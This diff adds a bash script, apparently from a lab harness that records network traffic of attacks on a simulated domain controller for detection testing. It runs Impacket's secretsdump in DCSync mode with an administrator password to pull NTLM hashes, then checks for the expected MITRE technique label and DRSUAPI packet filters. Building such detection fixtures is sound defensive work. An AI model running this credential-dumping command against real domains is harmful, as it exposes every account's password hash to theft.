@@ -1,0 +1,29 @@
+#!/bin/bash
+# Attacks by remote procedure calls on a domain controller.
+# shellcheck source=lib.sh
+source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
+# shellcheck source=domain.sh
+source "$RECORD_DIR/domain.sh"
+
+DC=10.20.2.10
+ATTACKER=10.20.1.66
+
+record_rpc_dcsync() {
+    begin rpc-dcsync attack "A workstation that is no domain controller asks the domain controller to replicate secrets to it (Impacket's secretsdump), account by account, with the password of an administrator."
+    hospital clients servers
+    host dc servers $DC
+    host attacker clients $ATTACKER
+    domain_on dc $DC "server max protocol = SMB2_10"
+    domain_user anna
+    domain_start
+    domain_client attacker
+    capture clients
+    impacket secretsdump
+    run attacker $PYTHON "$IMPACKET" -just-dc-ntlm "$WORKGROUP/Administrator:$ADMIN_PASSWORD@$DC"
+    expect "{technique: T1003.006, actor: $ATTACKER, kind: directory replication, target: $DC}"
+    contains "drsuapi && dcerpc.opnum == 3" -ge 1
+    contains "epm && dcerpc.opnum == 3" -ge 1
+    finish
+}
+
+main "$@"
